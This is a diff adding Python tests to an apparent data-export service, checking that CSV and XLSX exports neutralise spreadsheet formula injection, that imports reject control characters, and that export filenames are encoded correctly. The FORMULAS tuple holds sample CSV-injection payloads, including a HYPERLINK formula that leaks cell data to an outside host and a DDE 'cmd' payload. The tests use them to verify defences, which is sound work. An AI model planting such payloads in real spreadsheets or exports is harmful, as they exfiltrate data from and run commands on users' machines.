@@ -11,6 +11,7 @@ from sqlalchemy import func, select, text
 from matcher.io import validate_dataset, write_cluster
 from matcher.model import Cluster
 from service.convert import cluster_from_session, contact_of
+from service.db import bump_data_version
 from service.models import (
     ContactRow,
     LeadFirmRow,
@@ -220,6 +221,107 @@ def test_xlsx_round_trip_into_an_empty_database(world):
     assert r.status_code == 200, r.text
     assert r.json()["counts"]["my_cluster.xlsx:workshops"] == 8
     assert stored(world) == (cluster, contacts)
+
+
+#: Cells a spreadsheet would run (OWASP CSV injection): = + - @ tab CR, and one already quoted.
+FORMULAS = (
+    '=HYPERLINK("http://x/?q="&B2,"U")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tTab first",
+    "\rCR first",
+    "'=quoted",
+)
+
+
+def test_every_export_is_inert(world):
+    """A lead firm's name and imported extra columns reach a coordinator's files as inert text."""
+    r = world.as_(
+        "lead_firm", "PATCH", "/lead-firms/F1", json={"name": FORMULAS[0]}, headers={"If-Match": '"F1.1"'}
+    )
+    assert r.status_code == 200, r.text
+    for i, formula in enumerate(FORMULAS[1:], start=3):
+        body = {"firm_id": f"F{i}", "name": formula, "territory": "T1"}
+        assert world.as_("coordinator", "POST", "/lead-firms", json=body).status_code == 201
+    extra = {"=notes": FORMULAS[0], "-lat": "-25.3", "@tag": FORMULAS[3]}
+    r = world.as_("coordinator", "PATCH", "/workshops/W1", json={"extra": extra, "version": 1})
+    assert r.status_code == 200, r.text
+    expected = ["'" + t for t in FORMULAS]
+
+    files = export_files(world, "coordinator")
+    import csv
+
+    firms = list(csv.reader(io.StringIO(files["lead_firms.csv"].decode(), newline="")))
+    assert [row[1] for row in firms[1:] if row[0] != "F2"] == expected
+    workshops = list(csv.reader(io.StringIO(files["workshops.csv"].decode(), newline="")))
+    header = workshops[0]
+    w1 = dict(zip(header, workshops[1], strict=True))
+    assert header[-3:] == ["'=notes", "'-lat", "'@tag"]
+    assert [w1["'=notes"], w1["'-lat"], w1["'@tag"]] == ["'" + FORMULAS[0], "-25.3", "'" + FORMULAS[3]]
+
+    r = world.as_("coordinator", "GET", "/exports", params={"format": "xlsx"})
+    assert r.status_code == 200, r.text
+    from openpyxl import load_workbook
+
+    book = load_workbook(io.BytesIO(r.content))
+    cells = [row[1] for row in book["lead_firms"].iter_rows(min_row=2) if row[0].value != "F2"]
+    assert {c.data_type for c in cells} == {"s"}  # text, never a formula
+    # A workbook's XML keeps a carriage return as a line feed.
+    assert [c.value for c in cells] == [t.replace("\r", "\n") for t in expected]
+    sheet = list(book["workshops"].iter_rows())
+    assert {c.data_type for row in sheet for c in row if c.value is not None} == {"s"}
+    assert [c.value for c in sheet[0][-3:]] == ["'=notes", "'-lat", "'@tag"]
+    assert [c.value for c in sheet[1][-3:]] == ["'" + FORMULAS[0], "-25.3", "'" + FORMULAS[3]]
+
+    # Imported back, every text is as it was stored.
+    cluster, _ = stored(world)
+    upload = [("files", (name, content, "text/csv")) for name, content in files.items()]
+    empty_data(world)
+    r = world.as_("admin", "POST", "/imports", files=upload)
+    assert r.status_code == 200, r.text
+    again, _ = stored(world)
+    assert {f.firm_id: f.name for f in again.lead_firms} == {
+        f.firm_id: f.name for f in cluster.lead_firms if f.firm_id != "F2"
+    }
+    assert again.workshop("W1").extra == cluster.workshop("W1").extra
+
+
+def test_control_characters_are_refused_in_imports_and_never_break_an_export(world):
+    body = HEADER + "W\x009,T1,2,tshirt,sewing,ORG1,3\n"
+    r = world.as_("admin", "POST", "/imports", files=csv_files(workshops=body))
+    assert r.status_code == 422
+    problem = r.json()["error"]["details"][0]
+    assert (problem["file"], problem["row"], problem["column"]) == ("workshops.csv", 2, "workshop_id")
+    assert "control character (\\x00)" in problem["message"]
+    r = world.as_("lead_firm", "PATCH", "/lead-firms/F1", json={"name": "F\x01"}, headers={"If-Match": "*"})
+    assert r.status_code == 422 and r.json()["error"]["details"][0]["field"] == "name"
+    # Text stored before the door was shut still exports, the character a workbook cannot hold replaced.
+    with world.app.state.sessions() as session:
+        session.execute(text("UPDATE lead_firms SET name = 'Firm\x01One' WHERE firm_id = 'F1'"))
+        bump_data_version(session)
+        session.commit()
+    r = world.as_("coordinator", "GET", "/exports", params={"format": "xlsx"})
+    assert r.status_code == 200, r.text
+    from openpyxl import load_workbook
+
+    names = [row[1].value for row in load_workbook(io.BytesIO(r.content))["lead_firms"].iter_rows(min_row=2)]
+    assert names[0] == "Firm\ufffdOne"
+
+
+def test_export_names_the_file_in_ascii_and_in_utf_8(world):
+    r = world.as_("coordinator", "GET", "/exports", params={"format": "zip", "territory": "T1"})
+    assert r.headers["Content-Disposition"] == 'attachment; filename="cluster-T1.zip"'
+    r = world.as_("admin", "PATCH", "/workshops/W1", json={"territory": "Itá ʼ", "version": 1})
+    assert r.status_code == 200, r.text
+    r = world.as_("admin", "GET", "/exports", params={"format": "xlsx", "territory": "Itá ʼ"})
+    assert r.status_code == 200, r.text
+    assert r.headers["Content-Disposition"] == (
+        "attachment; filename=\"cluster-Ita _.xlsx\"; filename*=UTF-8''cluster-It%C3%A1%20%CA%BC.xlsx"
+    )
+    assert world.as_("admin", "GET", "/exports").headers["Content-Disposition"] == (
+        'attachment; filename="cluster.xlsx"'
+    )
 
 
 def test_workbook_problems_name_the_sheet(world, tmp_path):
